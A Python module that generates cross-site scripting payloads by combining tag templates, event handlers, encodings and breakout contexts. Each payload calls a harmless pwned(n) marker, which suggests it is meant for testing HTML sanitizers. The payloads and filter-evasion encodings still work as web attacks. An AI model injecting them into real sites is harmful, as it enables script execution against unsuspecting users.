"""Words that try to become markup or code: tag x event x encoding x context, drawn with a fixed seed."""

from __future__ import annotations

import html
import itertools
import random
from collections.abc import Callable
from urllib.parse import quote

__all__ = ["payloads"]

_TAGS = (
    "<img src=x {event}={code}>",
    "<svg {event}={code}>",
    "<svg><animate {event}={code} attributeName=x dur=1s></svg>",
    "<iframe srcdoc='<script>parent.{code}</script>' {event}={code}></iframe>",
    "<script {event}={code}>{code}</script>",
    "<body {event}={code}>",
    "<video {event}={code}><source {event}={code}></video>",
    "<input autofocus {event}={code}>",
    "<details open {event}={code}><summary>x</summary></details>",
    "<object data='javascript:{code}' {event}={code}></object>",
    "<math><mi xlink:href='javascript:{code}' {event}={code}>x</mi></math>",
    "<a href='javascript:{code}' {event}={code}>x</a>",
    "<form action='javascript:{code}'><button {event}={code}>x</button></form>",
    "<style>@import 'javascript:{code}'; * {{ animation: x }}</style><b {event}={code}>",
    "<base href='javascript:{code}//'><link rel=stylesheet href=x {event}={code}>",
    "<template><img src=x {event}={code}></template>",
)

_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover", "onbegin", "onclick")

_ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.swapcase,
    html.escape,
    lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: "".join(f"&#x{ord(char):x}" for char in text),
    quote,
    lambda text: "".join(f"\\u{ord(char):04x}" if char in "<>'\"=" else char for char in text),
    lambda text: text.replace("<", "<\x00").replace(" ", "\t"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
)

_CONTEXTS = (
    "{attack}",
    '">{attack}',
    "'>{attack}",
    "</textarea></title></style></script>{attack}",
    "-->]]>{attack}",
    '" {event}={code} x="{attack}',
    "';{code};//{attack}",
    "${{{code}}}`{attack}",
    "{{{{constructor.constructor('{code}')()}}}}{attack}",
    "javascript:{code}//{attack}",
    "[x](javascript:{code}) {attack}",
)


def payloads(count: int, seed: str) -> list[str]:
    """Return so many different attacks; each calls ``pwned`` with its number when it runs."""
    drawn = random.Random(seed).sample(list(itertools.product(_TAGS, _EVENTS, _ENCODINGS, _CONTEXTS)), count)
    made = []
    for number, (tag, event, encode, context) in enumerate(drawn):
        code = f"pwned({number})"
        attack = encode(tag.format(event=event, code=code))
        made.append(context.format(attack=attack, event=event, code=code))
    return made
